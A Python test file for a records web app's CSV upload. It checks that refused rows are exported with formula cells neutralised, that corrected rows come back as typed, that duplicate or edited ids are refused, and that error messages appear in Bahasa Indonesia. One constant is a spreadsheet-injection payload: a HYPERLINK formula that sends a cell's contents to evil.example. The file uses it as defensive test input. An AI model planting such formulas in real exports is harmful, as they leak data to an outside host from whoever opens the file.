"""A browser upload's refused rows: the file made to be opened in a spreadsheet and put
right never hands the spreadsheet a formula, and comes back as it was typed."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

from producers import forms
from producers.pseudonym import Pseudonymiser
from producers.publisher import content_digest
from schemas.model import Agency, Event
from sinergi.web.sessions import LANG_COOKIE
from sinergi.web.uploads import UploadJob, Uploads, refused_csv
from tests.unit import web_fakes

HEADER = "occurred_at,nik,sex,origin_regency,destination_country,outcome,recruiter"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


class Recorder:
    """The desk of the real recorder, with the records it kept before in ``held``."""

    def __init__(self, held: Sequence[Event] = ()) -> None:
        self.held = {e.event_id: content_digest(e) for e in held}

    def desk(self, agency: Agency, unit: str) -> forms.Desk:
        return forms.desk_for(agency, unit, Pseudonymiser(b"k" * 32))

    def recorded_before(self, unit: str, events: Sequence[Event]) -> list[str]:
        seen: dict[str, str | None] = dict(self.held)
        found = set()
        for e in events:
            if seen.setdefault(e.event_id, content_digest(e)) != content_digest(e):
                found.add(e.event_id)
        return sorted(found)


class Inline(Uploads):
    def _run(self, work: Any) -> None:
        work()  # the check at once, not in a thread


def upload(tmp_path: Path, text: str, held: Sequence[Event] = ()) -> UploadJob:
    uploads = Inline(Recorder(held), tmp_path)  # type: ignore[arg-type]
    return uploads.start(
        username="eltari", officer_code="ELT-07", unit="post-eltari", agency=Agency.POST,
        form_name="interception", filename="rows.csv", data=text.encode(),
    )  # fmt: skip


def test_refused_cells_that_a_spreadsheet_would_compute_are_written_as_text(tmp_path):
    rows = [
        "2026-01-20T08:30,5302014101900001,P,5302,MY,SENT_HOME,+62 812 3456 7890",
        f'2026-01-20T08:35,5302015203850002,P,5302,"{FORMULA.replace(chr(34), 2 * chr(34))}"'
        ",SENT_HOME,-",
    ]
    job = upload(tmp_path, "\n".join([HEADER, *rows]) + "\n")
    assert job.phase == "validated" and (len(job.accepted), len(job.refused)) == (1, 1)
    [header, refused] = list(csv.reader(io.StringIO(refused_csv(job, lambda m: m))))
    cell = dict(zip(header, refused, strict=True))
    assert cell["destination_country"] == "'" + FORMULA
    assert cell["recruiter"] == "'-"
    assert cell["nik"] == "5302015203850002" and cell["refused_row"] == "3"


def test_the_refused_file_put_right_comes_back_as_it_was_typed(tmp_path):
    first = upload(tmp_path, HEADER + "\n2026-01-20T08:30,53020141019,P,5302,MY,SENT_HOME,"
                   "+62 812 3456 7890\n")  # fmt: skip
    assert len(first.refused) == 1  # the NIK is two digits short
    [header, row] = list(csv.reader(io.StringIO(refused_csv(first, lambda m: m))))
    assert row[header.index("recruiter")] == "'+62 812 3456 7890"
    row[header.index("nik")] = "5302014101900001"  # put right, in a spreadsheet
    out = io.StringIO()
    csv.writer(out).writerows([header, row])
    again = upload(tmp_path, out.getvalue())
    [accepted] = again.accepted
    assert accepted.cells["recruiter"] == "+62 812 3456 7890"
    typed = upload(tmp_path, HEADER + "\n2026-01-20T08:30,5302014101900001,P,5302,MY,"
                   "SENT_HOME,+62 812 3456 7890\n")  # fmt: skip
    # the same recruiter, pseudonymised the same way as when typed in the first place
    assert accepted.event.recruiter_ref == typed.accepted[0].event.recruiter_ref  # type: ignore[attr-defined]


def test_an_edited_row_under_a_kept_id_and_one_id_twice_in_a_file_are_refused(tmp_path):
    kept_id, twice = "0b3c2f4e-1111-4222-8333-444455556666", "0b3c2f4e-1111-4222-8333-777777777777"
    header = "event_id," + HEADER
    row = "{},2026-01-20T08:30,5302014101900001,P,5302,MY,{},"
    first = upload(tmp_path, header + "\n" + row.format(kept_id, "SENT_HOME") + "\n")
    [kept] = first.accepted
    rows = [
        row.format(kept_id, "HANDED_TO_POLICE"),  # row 2: edited since it was kept
        row.format(twice, "SENT_HOME"),  # rows 3 and 4: one id, two contents
        row.format(twice, "HANDED_TO_POLICE"),
        row.format("", "SENT_HOME").replace("5302014101900001", "5302015203850002", 1),
    ]
    job = upload(tmp_path, "\n".join([header, *rows]) + "\n", held=[kept.event])
    assert job.phase == "validated"
    assert [r.row for r in job.refused] == [2, 3, 4] and [a.row for a in job.accepted] == [5]
    problem = job.refused[0].problems[0]
    assert problem.field == "event_id" and "corrected, never edited" in problem.message
    again = upload(tmp_path, header + "\n" + row.format(kept_id, "SENT_HOME") + "\n",
                   held=[kept.event])  # fmt: skip
    assert (len(again.accepted), again.refused) == (1, [])  # the same record: kept once
    # A correction of it, under its id in `corrects`, is a correction, not an edit.
    fixes = "corrects," + HEADER + "\n" + row.format(kept_id, "HANDED_TO_POLICE") + "\n"
    fixed = upload(tmp_path, fixes, held=[kept.event])
    assert ([a.row for a in fixed.accepted], fixed.refused) == ([2], [])


def test_the_upload_page_tells_the_files_and_the_rows_problems_in_bahasa(tmp_path):
    """The problems of a whole file and of each refused row, in the language of the page:
    the command line's words (sinergi.i18n), not English by default."""
    uploads = Inline(Recorder(), tmp_path)  # type: ignore[arg-type]

    def start(data: bytes) -> str:
        return uploads.start(
            username="eltari", officer_code="ELT-07", unit="post-eltari", agency=Agency.POST,
            form_name="interception", filename="rows.csv", data=data,
        ).job_id  # fmt: skip

    cells = start(f"{HEADER}\n2026-01-20T08:30,5302014101900001,P,5302,MY,SENT_HOME,,x\n".encode())
    latin = start(f"{HEADER}\n2026-01-20T08:30,Sánchez\n".encode("latin-1"))
    rows = start(
        f"{HEADER}\n2026-01-20T08:30,5302014101900001,L,5302,MY,SENT_HOME,\n"
        "2026-01-20T08:30,5302014101900000,P,5302,MY,SENT_HOME,\n".encode()
    )
    c = web_fakes.client(replace(web_fakes.services(), uploads=uploads))
    web_fakes.log_in(c, "eltari")
    page = c.get(f"/upload/{cells}").text + c.get(f"/upload/{latin}").text
    assert "baris 2 memuat 8 sel, baris judul 7" in page
    assert "kolom file: bukan teks UTF-8: simpan sebagai CSV (UTF-8)" in page
    assert "has 8 cells" not in page and "not UTF-8" not in page
    page = c.get(f"/upload/{rows}").text
    assert "sex: tidak cocok dengan NIK, milik perempuan" in page
    assert (
        "nik: nomor urut NIK 0000 tidak pernah diterbitkan (diterima hanya dengan dokumen FORGED)"
        in page
    )
    c.cookies.set(LANG_COOKIE, "en")
    assert "row 2 has 8 cells, the header 7" in c.get(f"/upload/{cells}").text
    assert "does not match the NIK, which is of a female" in c.get(f"/upload/{rows}").text
